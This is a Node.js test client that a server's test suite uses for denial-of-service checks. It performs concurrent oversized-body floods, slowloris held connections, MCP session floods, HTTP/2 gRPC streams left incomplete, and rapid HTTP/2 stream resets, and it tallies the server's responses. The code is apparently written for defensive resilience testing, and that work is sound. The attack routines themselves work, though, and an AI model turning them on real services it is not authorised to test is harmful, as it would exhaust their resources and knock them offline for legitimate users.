// http_attacks.mjs - the attacking client of tests/http_attacks.sh: raw sockets, so requests are
// exactly what an attacker sends (headers without a body, a body nobody asked for, a header
// trickled a byte a second). Prints one JSON line of counts per command.
//   node http_attacks.mjs bodies HOST:PORT PATH N BYTES [chunked]   N bodies at once, no token
//   node http_attacks.mjs slowloris HOST:PORT N HOLD_S             N partial headers, held
//   node http_attacks.mjs sessions HOST:PORT CREDENTIAL N          N initialize, one after another
//   node http_attacks.mjs h2streams HOST:PORT TOKEN N STREAMS HOLD_S
//                          N HTTP/2 connections, each with STREAMS gRPC calls whose message never
//                          completes (a prefix declaring 100 bytes, then 10), held HOLD_S seconds
//   node http_attacks.mjs h2reset HOST:PORT N STREAMS
//                          N HTTP/2 connections, each opening STREAMS calls and resetting each
import http2 from 'node:http2';
import net from 'node:net';

const [cmd, hostport, ...args] = process.argv.slice(2);
const [host, portText] = hostport.split(':');
const port = Number(portText);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function tally(results) {
  const t = {};
  for (const r of results) t[r] = (t[r] || 0) + 1;
  return t;
}

// One request: head, then bytes of body (chunked or with Content-Length), written as fast as
// the socket takes them; resolves with the status line's code, or how the connection ended.
function body(path, bytes, chunked) {
  return new Promise((resolve) => {
    const s = net.connect(port, host);
    let got = '';
    let done = false;
    const end = (what) => { if (!done) { done = true; s.destroy(); resolve(what); } };
    s.setTimeout(120000, () => end('timeout'));
    s.on('data', (d) => {
      got += d.toString('latin1');
      const m = /^HTTP\/1\.\d (\d+)/.exec(got);
      if (m && got.includes('\r\n\r\n')) end(m[1]);
    });
    s.on('error', (e) => end(e.code || 'error'));
    s.on('close', () => end(got ? (/^HTTP\/1\.\d (\d+)/.exec(got) || [0, 'garbled'])[1] : 'closed'));
    s.on('connect', async () => {
      const framing = chunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${bytes}`;
      s.write(`POST ${path} HTTP/1.1\r\nHost: ${hostport}\r\nContent-Type: application/json\r\n` +
        `Accept: application/json\r\n${framing}\r\n\r\n`);
      const piece = Buffer.alloc(65536, 0x20);
      for (let sent = 0; sent < bytes && !done;) {
        const n = Math.min(piece.length, bytes - sent);
        const data = chunked ? Buffer.concat([Buffer.from(`${n.toString(16)}\r\n`), piece.subarray(0, n),
          Buffer.from('\r\n')]) : piece.subarray(0, n);
        sent += n;
        if (!s.write(data)) await new Promise((r) => { s.once('drain', r); s.once('close', r); });
      }
      if (chunked && !done) s.write('0\r\n\r\n');
    });
  });
}

async function bodies(path, n, bytes, chunked) {
  const results = await Promise.all(Array.from({ length: n }, () => body(path, bytes, chunked)));
  console.log(JSON.stringify({ attack: 'bodies', path, n, bytes, chunked, answers: tally(results) }));
}

// n connections each sending a partial request head, then one byte a second for hold_s seconds.
async function slowloris(n, holdS) {
  const socks = [];
  let closed = 0, answered = 0, failed = 0;
  for (let i = 0; i < n; i++) {
    const s = net.connect(port, host);
    s.on('error', () => { failed++; });
    s.on('data', () => { answered++; });
    s.on('close', () => { closed++; });
    s.on('connect', () => s.write(`GET /healthz HTTP/1.1\r\nHost: ${hostport}\r\nX-Slow: `));
    socks.push(s);
    if (i % 100 === 99) await sleep(20);
  }
  await sleep(500);
  console.log(JSON.stringify({ attack: 'slowloris', opened: n, ready: true }));
  for (let t = 0; t < holdS; t++) {
    await sleep(1000);
    for (const s of socks) if (!s.destroyed) s.write('a');
  }
  console.log(JSON.stringify({ attack: 'slowloris', opened: n, held_s: holdS,
    closed_by_server: closed, answered, errors: failed, still_open: n - closed }));
  for (const s of socks) s.destroy();
}

async function sessions(credential, n) {
  const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: {
    protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'flood', version: '1' } } });
  const results = [];
  for (let i = 0; i < n; i++) {
    const r = await fetch(`http://${hostport}/mcp`, { method: 'POST', body: init, headers: {
      Authorization: `Bearer ${credential}`, 'Content-Type': 'application/json',
      Accept: 'application/json, text/event-stream' } });
    await r.text();
    results.push(String(r.status));
  }
  console.log(JSON.stringify({ attack: 'sessions', n, answers: tally(results) }));
}

// HTTP/2 connections (prior knowledge, as gRPC clients speak cleartext) opening gRPC calls:
// reset at once (reset), or left with a message that never completes. Counts what came back.
async function h2(token, n, streams, holdS, reset) {
  const got = [];
  const sessions = [];
  let goaway = 0;
  let failed = 0;
  const headers = { ':method': 'POST', ':path': '/charter.v1.Runs/ListRuns',
    'content-type': 'application/grpc', te: 'trailers', authorization: `Bearer ${token}` };
  const partial = Buffer.alloc(15);
  partial.writeUInt32BE(100, 1);
  for (let i = 0; i < n; i++) {
    const s = http2.connect(`http://${hostport}`);
    s.on('error', () => failed++);
    s.on('goaway', () => goaway++);
    sessions.push(s);
    s.on('connect', () => {
      for (let k = 0; k < streams; k++) {
        const st = s.request(headers, { endStream: false });
        st.on('response', (h) => { if (h['grpc-status']) got.push(`grpc-status ${h['grpc-status']}`); });
        st.on('trailers', (h) => got.push(`grpc-status ${h['grpc-status']}`));
        st.on('error', () => got.push('reset'));
        if (reset) st.close(http2.constants.NGHTTP2_CANCEL);
        else st.write(partial);
      }
    });
  }
  await sleep(holdS * 1000);
  console.log(JSON.stringify({ attack: reset ? 'h2reset' : 'h2streams', connections: n, streams,
    held_s: holdS, answers: tally(got), goaway, errors: failed }));
  for (const s of sessions) s.destroy();
}

if (cmd === 'h2streams') await h2(args[0], Number(args[1]), Number(args[2]), Number(args[3]), false);
else if (cmd === 'h2reset') await h2('', Number(args[0]), Number(args[1]), 5, true);
else if (cmd === 'bodies') await bodies(args[0], Number(args[1]), Number(args[2]), args[3] === 'chunked');
else if (cmd === 'slowloris') await slowloris(Number(args[0]), Number(args[1]));
else if (cmd === 'sessions') await sessions(args[0], Number(args[1]));
else { console.error(`unknown command ${cmd}`); process.exit(2); }
process.exit(0);
